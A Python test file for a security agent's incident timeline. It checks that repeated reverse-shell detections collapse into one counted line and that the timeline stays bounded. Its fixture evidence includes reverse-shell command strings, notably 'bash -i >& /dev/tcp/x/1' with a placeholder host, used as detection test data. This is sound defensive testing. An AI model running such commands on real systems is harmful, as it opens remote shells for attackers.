"""Repeated identical findings are one timeline line with a count (agent.state.timeline),
in the store on a real file, through the control API's conversion and the CLI's view."""
from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from agent.cli.client import format_detail
from agent.control import convert
from agent.model import EventClass, Finding, Severity
from agent.proto.swarm.control.v1 import control_pb2 as pb
from agent.state.store import Store
from agent.state.timeline import MAX_FINDING_LINES, shape_of


def shell(pid: int, comm: str = "bash", args: str = "bash -i") -> Finding:
    return Finding("breach.reverse_shell", 1, EventClass.SECURITY_BREACH, Severity.CRITICAL,
                   "cgroup:/system.slice/web.service", "isolate_service", 1, 2,
                   {"pid": pid, "ppid": pid - 1, "uid": 33, "comm": comm, "args": args,
                    "stdin": "inet", "stdio_inet": 3, "cgroup": "/system.slice/web.service"})


@pytest.fixture
def store(tmp_path: Path):
    s = Store(tmp_path / "agent.db")
    yield s
    s.close()


def test_a_reverse_shell_firing_dozens_of_times_is_one_line_with_a_count(store):
    for n in range(40):
        inc = store.record_finding(shell(1000 + n), 100.0, 100.0 + n)
    (line,) = store.incident_events(inc.id)
    assert line.text == "breach.reverse_shell@1 (x40)"
    assert (line.at, line.data["count"], line.data["first_at"], line.data["last_at"]) == \
        (100.0, 40, 100.0, 139.0)
    assert line.data["evidence"]["pid"] == 1000 and line.data["last_evidence"]["pid"] == 1039
    assert store.incident(inc.id).findings == 40          # the incident counts every one


def test_a_different_program_or_rule_is_its_own_line(store):
    inc = store.record_finding(shell(10), 100.0, 100.0)
    store.record_finding(shell(11), 100.0, 101.0)
    store.record_finding(shell(12, comm="python3", args="python3 -c pty.spawn"), 100.0, 102.0)
    store.add_incident_event(inc.id, "note", "between", 103.0)
    store.record_finding(shell(13), 100.0, 104.0)     # counts on the first line again
    events = store.incident_events(inc.id)
    assert [(e.kind, e.data.get("count")) for e in events] == \
        [("finding", 3), ("finding", 1), ("note", None)]
    assert events[0].data["last_at"] == 104.0


def test_shape_ignores_numbers_not_strings_keys_or_rule():
    assert shape_of(shell(1)) == shape_of(shell(99999))
    assert shape_of(shell(1)) != shape_of(shell(1, args="bash -i >& /dev/tcp/x/1"))
    f = shell(1)
    assert shape_of(f) != shape_of(Finding("breach.service_shell", *[getattr(f, k) for k in (
        "rule_version", "event_class", "severity", "entity", "action", "first_mono_ns",
        "detected_mono_ns", "evidence")]))
    more = Finding(**{**{k: getattr(f, k) for k in f.__slots__},
                      "evidence": {**f.evidence, "extra": 1}})
    assert shape_of(more) != shape_of(f)


def test_an_attacker_varying_every_finding_cannot_grow_the_timeline_without_bound(store):
    total = MAX_FINDING_LINES + 200
    for n in range(total):
        inc = store.record_finding(shell(n + 2, args=f"sh -c x{n}"), 100.0, 100.0 + n)
    events = store.incident_events(inc.id)
    assert len(events) == MAX_FINDING_LINES + 1
    other = events[-1]
    assert other.data["shape"] == "other" and other.data["count"] == 200
    assert other.text.startswith("other findings (x200)")
    db = sqlite3.connect(store.path)
    rows = db.execute("SELECT COUNT(*) FROM incident_events").fetchone()[0]
    db.close()
    assert rows == MAX_FINDING_LINES + 1
    assert store.incident(inc.id).findings == total


def test_api_and_cli_show_the_repeat_once(store):
    for n in range(25):
        inc = store.record_finding(shell(500 + n), 1_700_000_000.0, 1_700_000_000.0 + n)
    incident = store.incident(inc.id)
    events = store.incident_events(inc.id)
    detail = pb.IncidentDetail(incident=convert.incident(incident, events),
                               timeline=[convert.timeline_entry(e) for e in events])
    assert len(detail.timeline) == 1
    text = format_detail(detail)
    finding_lines = [ln for ln in text.splitlines() if " finding " in ln]
    assert len(finding_lines) == 1 and "breach.reverse_shell@1 (x25), last at " in finding_lines[0]


def test_another_actor_is_its_own_line_whatever_its_pid():
    """uids say who acted: root's write and a user's setuid write, or a ptrace of root's
    process and of a user's, are distinct findings, never a count on one line."""
    f = shell(1)
    other = lambda **ev: Finding(f.rule_id, f.rule_version, f.event_class, f.severity, f.entity,
                                 f.action, 1, 2, {**f.evidence, **ev})
    assert shape_of(other(uid=0)) != shape_of(other(uid=1000))
    assert shape_of(other(euid=0)) != shape_of(other(euid=1000))
    assert shape_of(other(target_uid=0)) != shape_of(other(target_uid=1000))
    assert shape_of(other(uid=1000, pid=5)) == shape_of(other(uid=1000, pid=6))


def test_authoritys_note_naming_the_pid_does_not_split_a_repeat(store):
    note = lambda pid: (f"breach.reverse_shell@1: actor uid 33 is unprivileged and its cgroup / "
                        f"is not its own: killing its processes (the session of pid {pid}, uid 33 "
                        "only) instead of isolating the node")
    for n in range(5):
        f = shell(1000 + n)
        inc = store.record_finding(Finding(*[getattr(f, k) for k in (
            "rule_id", "rule_version", "event_class", "severity", "entity", "action",
            "first_mono_ns", "detected_mono_ns")], {**f.evidence, "authority": note(1000 + n)}),
            100.0, 100.0 + n)
    (line,) = store.incident_events(inc.id)
    assert line.data["count"] == 5
    assert line.data["last_evidence"]["authority"] == note(1004)
